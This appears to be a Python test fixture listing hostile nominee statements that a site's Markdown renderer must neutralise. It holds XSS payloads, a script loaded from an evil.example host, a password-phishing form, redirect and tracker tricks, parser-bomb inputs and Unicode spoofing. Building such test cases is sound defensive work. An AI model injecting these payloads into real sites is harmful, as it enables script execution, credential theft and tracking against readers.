"""Hostile statements: what a nominee could put in a statement to attack the site's readers.

Each one is rendered by `render_statement` and must come out harmless: checked on the HTML
(`test_statement.py`) and in a real browser (`test_browser.py`: no dialog, no request outside the site).
"""

from __future__ import annotations

SVG_B64 = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="

CASES: dict[str, str] = {
    "script-tag": "Hello <script>alert(1)</script> and <SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script-block": "<script>\nalert(document.cookie)\n</script>\n\nText after.",
    "event-handlers": '<img src=x onerror=alert(1)> <b onmouseover="alert(1)">hover</b> <body onload=alert(1)>',
    "event-handler-in-table": "| a |\n|---|\n| <td onclick=alert(1)>x</td> |",
    "javascript-link": "[click](javascript:alert(1)) [c2](JaVaScRiPt:alert(1)) [c3](  javascript:alert(1))",
    "javascript-entity-link": "[c](java&#115;cript:alert(1)) [d](&#106;avascript:alert(1)) [e](javascript&colon;alert(1))",
    "javascript-autolink": "<javascript:alert(1)> and <JAVASCRIPT:alert(1)>",
    "javascript-reference": '[ref]\n\n[ref]: javascript:alert(1) "title"',
    "data-url-link": "[c](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript-link": "[c](vbscript:msgbox(1)) [f](file:///etc/passwd)",
    "svg-inline": '<svg onload=alert(1)><script>alert(2)</script><a xlink:href="javascript:alert(3)"><text>x</text></a></svg>',
    "svg-data-image": f"![svg](data:image/svg+xml;base64,{SVG_B64})",
    "svg-remote-image": "![logo](https://evil.example/payload.svg)",
    "remote-image-tracker": "![t](https://tracker.example/pixel.png?reader=1) and ![](http://tracker.example/p.gif)",
    "image-in-link": "[![t](https://tracker.example/p.png)](https://example.org/)",
    "html-comments": "<!-- election-bot:phase election=x phase=y -->\nVisible <!--> <script>alert(1)</script> -->",
    "comment-breakout": "--><script>alert(1)</script><!--",
    "title-attribute-breakout": '[a](https://example.org "x\\" onmouseover=alert(1) y=\\"")',
    "iframe-object-embed": '<iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src=x>',
    "style-and-link": "<style>body{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
    "meta-refresh-base": '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
    "form": '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
    "headings": "# One\n\n## Two\n\n###### Six\n\nSetext\n======",
    "nested-emphasis-bomb": "*a **b " * 20000 + "_c __d " * 20000,
    "emphasis-stars": "*" * 100000,
    "brackets-bomb": "[" * 50000 + "](" * 50000,
    "deep-nesting": ">" * 5000 + " deep\n\n" + "- " * 2000 + "x",
    "unicode-tricks": "Name \u202egnp.exe\u202c with \u200b zero width and \u2066isolates\u2069",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt; &#x3C;img src=x onerror=alert(1)&#x3E;",
    "relative-links": "[home](/) [up](../index.html) [frag](#main) [proto](//evil.example/)",
    "one-megabyte": ("Plain words, *emphasis*, [a link](https://example.org/) and `code`. " * 15000)[
        :1_000_000
    ],
}
